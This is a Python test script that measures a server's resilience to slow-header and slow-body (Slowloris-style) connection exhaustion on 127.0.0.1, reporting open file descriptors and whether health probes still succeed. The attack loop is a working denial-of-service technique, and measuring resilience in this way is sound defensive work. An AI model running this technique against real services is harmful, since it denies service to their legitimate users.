#!/usr/bin/env python3
# Issue 15 measurement: python3 transport-slow.py PORT SERVER_PID N_SLOW_HEADERS N_SLOW_BODIES HOLD_SECONDS (127.0.0.1 only).
"""Opens N slow-header + M slow-body connections to 127.0.0.1:PORT, trickling a byte every few seconds,
then reports the server's open files and how many trickling connections are still open, and whether
ordinary requests are answered during and after the burst."""
import socket, sys, time, os, threading
port=int(sys.argv[1]); pid=int(sys.argv[2]); nh=int(sys.argv[3]); nb=int(sys.argv[4]); hold=float(sys.argv[5])
def fds(): 
    try: return len(os.listdir('/proc/%d/fd'%pid))
    except Exception as e: return -1
def probe(n=20, timeout=5):
    ok=0
    for i in range(n):
        try:
            s=socket.create_connection(('127.0.0.1',port),timeout=timeout); s.settimeout(timeout)
            s.sendall(b'GET /health HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n')
            d=s.recv(100); s.close()
            if d.startswith(b'HTTP/1.1 200'): ok+=1
        except Exception: pass
    return ok
print('before: fds=%d answered=%d/20'%(fds(),probe()))
socks=[]
for i in range(nh):
    try:
        s=socket.create_connection(('127.0.0.1',port),timeout=5); s.sendall(b'GET /api/usage HTTP/1.1\r\nHost: a\r\n'); socks.append(s)
    except Exception as e: socks.append(None)
for i in range(nb):
    try:
        s=socket.create_connection(('127.0.0.1',port),timeout=5)
        s.sendall(b'POST /api/admin/tenants HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{'); socks.append(s)
    except Exception as e: socks.append(None)
opened=sum(1 for s in socks if s)
print('opened %d of %d attacker connections; fds=%d'%(opened,nh+nb,fds()))
start=time.time()
while time.time()-start<hold:
    time.sleep(2)
    alive=0
    for s in socks:
        if s is None: continue
        try: s.sendall(b'X-a: b\r\n' if socks.index(s)<nh else b' '); alive+=1
        except Exception: 
            pass
    print('t=%4.0fs fds=%5d attacker connections still accepted writes=%d answered=%d/5'%(time.time()-start,fds(),alive,probe(5,3)))
for s in socks:
    if s: 
        try: s.close()
        except Exception: pass
time.sleep(2)
print('after closing: fds=%d answered=%d/20'%(fds(),probe()))
